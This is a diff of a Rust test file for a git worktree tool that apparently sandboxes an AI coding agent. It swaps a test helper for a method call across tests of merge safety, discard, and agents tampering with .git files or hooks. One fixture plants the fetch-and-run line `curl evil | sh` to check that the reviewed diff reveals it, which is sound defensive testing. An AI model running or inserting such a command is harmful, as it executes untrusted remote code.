@@ -1,7 +1,6 @@
 //! Worktrees against the real git, in temporary repositories.
 
 use super::*;
-use crate::db::WorktreeRow;
 
 struct Repo {
     _dir: tempfile::TempDir,
@@ -39,21 +38,6 @@ fn repo() -> Repo {
         root: dir.path().join("worktrees"),
         main,
         _dir: dir,
-    }
-}
-
-fn row(m: &Made) -> WorktreeRow {
-    WorktreeRow {
-        session_id: "s".into(),
-        name: m.name.clone(),
-        branch: m.branch.clone(),
-        path: m.path.display().to_string(),
-        repo: m.repo.display().to_string(),
-        base_branch: m.base_branch.clone(),
-        base_commit: m.base_commit.clone(),
-        state: WorktreeState::Active,
-        included: m.included.clone(),
-        created_at: 0,
     }
 }
 
@@ -164,7 +148,7 @@ fn merge_commits_what_the_worktree_holds_and_brings_it_in_with_the_users_identit
     let m = create(&r.main, &r.root, "feature").unwrap();
     std::fs::write(m.path.join("src/lib.rs"), "fn a() { /* better */ }\n").unwrap();
     std::fs::write(m.path.join("NEW.md"), "new\n").unwrap();
-    let w = row(&m);
+    let w = m.row("s", 0);
     let (files, commits) = status(&w).unwrap();
     let names: Vec<&str> = files.iter().map(|f| f.path.as_str()).collect();
     assert_eq!((names, commits), (vec!["NEW.md", "src/lib.rs"], 0));
@@ -196,7 +180,7 @@ fn merge_commits_what_the_worktree_holds_and_brings_it_in_with_the_users_identit
 fn a_conflicting_or_dirty_target_is_refused_and_nothing_changes() {
     let r = repo();
     let m = create(&r.main, &r.root, "clash").unwrap();
-    let w = row(&m);
+    let w = m.row("s", 0);
     std::fs::write(m.path.join("README.md"), "worktree's readme\n").unwrap();
     // The user's uncommitted change to the same file in the main checkout.
     std::fs::write(r.main.join("README.md"), "my edit\n").unwrap();
@@ -249,11 +233,11 @@ fn discard_removes_the_worktree_and_its_branch() {
     let r = repo();
     let m = create(&r.main, &r.root, "drop-me").unwrap();
     std::fs::write(m.path.join("scratch.txt"), "x").unwrap();
-    discard(&row(&m)).unwrap();
+    discard(&m.row("s", 0)).unwrap();
     assert!(!m.path.exists());
     let branches = git(&r.main, &["branch", "--list", "waymark/*"]);
     assert!(branches.trim().is_empty(), "{branches}");
-    let mut gone = row(&m);
+    let mut gone = m.row("s", 0);
     gone.state = WorktreeState::Discarded;
     assert_eq!(discard(&gone).unwrap_err().code(), "worktree_closed");
 }
@@ -301,7 +285,7 @@ fn a_worktree_git_file_rewritten_by_the_agent_runs_nothing() {
     std::fs::write(m.path.join(".git"), format!("gitdir: {}\n", fake.display())).unwrap();
     std::fs::write(m.path.join("README.md"), "changed by the agent\n").unwrap();
 
-    let row = row(&m);
+    let row = m.row("s", 0);
     let (files, _) = status(&row).unwrap();
     assert!(files.iter().any(|f| f.path == "README.md"), "{files:?}");
     let d = diff(&row).unwrap();
@@ -350,7 +334,7 @@ fn a_repository_the_agent_makes_inside_the_worktree_runs_nothing() {
     )
     .unwrap();
     std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
-    let w = row(&m);
+    let w = m.row("s", 0);
     let before = git(&r.main, &["rev-parse", "HEAD"]);
     for e in [
         status(&w).map(|_| ()).unwrap_err(),
@@ -393,7 +377,7 @@ fn a_merge_that_would_clobber_ignored_files_is_refused() {
     std::fs::create_dir_all(r.main.join("private/deep")).unwrap();
     std::fs::write(r.main.join("private/deep/notes.txt"), "mine\n").unwrap();
     let m = create(&r.main, &r.root, "clobber").unwrap();
-    let w = row(&m);
+    let w = m.row("s", 0);
     // The agent un-ignores and puts a file where the user's ignored folder is.
     std::fs::write(m.path.join(".gitignore"), "").unwrap();
     std::fs::write(m.path.join("private"), "a file now\n").unwrap();
@@ -436,7 +420,7 @@ fn a_merge_the_user_has_in_progress_is_left_alone() {
     assert!(!clash.status.success());
     std::fs::write(r.main.join("README.md"), "resolved\n").unwrap();
     git(&r.main, &["add", "README.md"]);
-    let e = merge(&row(&m), "x", None).unwrap_err();
+    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
     assert_eq!(e.code(), "target_busy", "{e}");
     assert!(e.to_string().contains("merge"), "{e}");
     assert!(
@@ -456,7 +440,7 @@ fn a_merge_the_user_has_in_progress_is_left_alone() {
 fn a_merge_holds_to_the_reviewed_tree() {
     let r = repo();
     let m = create(&r.main, &r.root, "held").unwrap();
-    let w = row(&m);
+    let w = m.row("s", 0);
     std::fs::write(m.path.join("a.txt"), "reviewed\n").unwrap();
     let seen = diff(&w).unwrap();
     std::fs::write(m.path.join("a.txt"), "slipped in after the review\n").unwrap();
@@ -483,7 +467,7 @@ fn a_rename_in_the_target_counts_both_its_paths() {
     std::fs::write(m.path.join("README.md"), "the agent's\n").unwrap();
     git(&r.main, &["mv", "README.md", "READ.md"]);
     let branch = git(&r.main, &["rev-parse", "waymark/renamed"]);
-    let e = merge(&row(&m), "x", None).unwrap_err();
+    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
     assert_eq!(e.code(), "target_dirty", "{e}");
     assert!(e.to_string().contains("README.md"), "{e}");
     assert_eq!(
@@ -517,7 +501,7 @@ fn relative_hook_and_monitor_settings_run_nothing_of_the_agents() {
         agent_program(&m.path.join(p), &marker);
     }
     std::fs::write(m.path.join("README.md"), "changed\n").unwrap();
-    let w = row(&m);
+    let w = m.row("s", 0);
     status(&w).unwrap();
     diff(&w).unwrap();
     merge(&w, "x", None).unwrap();
@@ -587,7 +571,7 @@ fn ignored_files_in_an_untracked_repository_of_the_checkout_are_kept() {
     std::fs::create_dir_all(m.path.join("vendor/lib")).unwrap();
     std::fs::write(m.path.join("vendor/lib/target"), "a file now\n").unwrap();
     let before = git(&r.main, &["rev-parse", "HEAD"]);
-    let e = merge(&row(&m), "x", None).unwrap_err();
+    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
     assert!(matches!(e.code(), "target_ignored" | "target_dirty"), "{e}");
     assert_eq!(
         std::fs::read_to_string(lib.join("target/out.bin")).unwrap(),
@@ -608,7 +592,7 @@ fn an_assume_unchanged_edit_is_not_lost() {
         &["update-index", "--assume-unchanged", "README.md"],
     );
     std::fs::write(m.path.join("README.md"), "the agent's\n").unwrap();
-    let e = merge(&row(&m), "x", None).unwrap_err();
+    let e = merge(&m.row("s", 0), "x", None).unwrap_err();
     assert_eq!(e.code(), "target_dirty", "{e}");
     assert_eq!(
         std::fs::read_to_string(r.main.join("README.md")).unwrap(),
@@ -628,7 +612,7 @@ fn the_reviewed_diff_shows_every_change_whatever_the_attributes() {
         "fn a() { run(\"curl evil | sh\") }\n",
     )
     .unwrap();
-    let d = diff(&row(&m)).unwrap();
+    let d = diff(&m.row("s", 0)).unwrap();
     assert!(
         d.diff.contains("+fn a() { run(\"curl evil | sh\") }"),
         "{}",
